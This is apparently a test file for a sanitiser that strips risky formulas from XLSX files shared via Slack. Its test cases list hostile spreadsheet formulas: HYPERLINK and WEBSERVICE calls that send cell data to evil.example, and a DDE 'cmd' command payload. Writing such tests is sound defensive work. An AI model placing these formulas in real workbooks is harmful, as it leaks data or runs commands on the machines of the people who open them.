import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { safeXlsx } from '../../../src/slack/files/safe-xlsx.js';

const folder = mkdtempSync(join(tmpdir(), 'safe-xlsx-'));
afterAll(() => rmSync(folder, { recursive: true }));

const WRITE = `
import json, sys, openpyxl
book = openpyxl.Workbook()
for row, formula in enumerate(json.loads(sys.argv[2]), 1): book.active.cell(row, 1, formula)
book.save(sys.argv[1])
`;
const READ = `
import json, sys, openpyxl
print(json.dumps([row[0] for row in openpyxl.load_workbook(sys.argv[1]).active.iter_rows(values_only=True)]))
`;

function python(code: string, ...args: readonly string[]): string {
  return execFileSync('/usr/bin/python3', ['-c', code, ...args], { encoding: 'utf8' });
}

function workbook(cells: readonly unknown[]): Uint8Array {
  const path = join(folder, 'in.xlsx');
  python(WRITE, path, JSON.stringify(cells));
  return readFileSync(path);
}

function read(bytes: Uint8Array | undefined): unknown {
  const path = join(folder, 'out.xlsx');
  writeFileSync(path, bytes ?? '');
  return JSON.parse(python(READ, path));
}

it('leaves a workbook of plain formulas as it is', () => {
  const cells = [1, 2, '=SUM(A1:A2)', '=IF(A1>1,"see HYPERLINK(x)","b|c!")', '=Sheet!A1&"[1]"'];
  const bytes = workbook(cells);
  expect(safeXlsx(bytes)).toBe(bytes);
});

it.each([
  '=HYPERLINK("http://evil.example/?"&A1,"more")',
  '=_xlfn.WEBSERVICE("http://evil.example/?"&A1)',
  '=FILTERXML("<a/>","//a")',
  '=1+importxml("http://evil.example","//a")',
  '=RTD("a",,"b")',
  "=cmd|'/c calc'!A1",
  '=[1]Sheet1!A1',
  "='C:\\folder\\[book.xlsx]Sheet1'!A1",
])('empties a cell that reaches out: %s', (formula) => {
  expect(read(safeXlsx(workbook([7, formula, '=SUM(A1:A1)'])))).toEqual([7, null, '=SUM(A1:A1)']);
});

it('does not pass on what it cannot look into', () => {
  expect(safeXlsx(Buffer.from('no workbook'))).toBeUndefined();
});
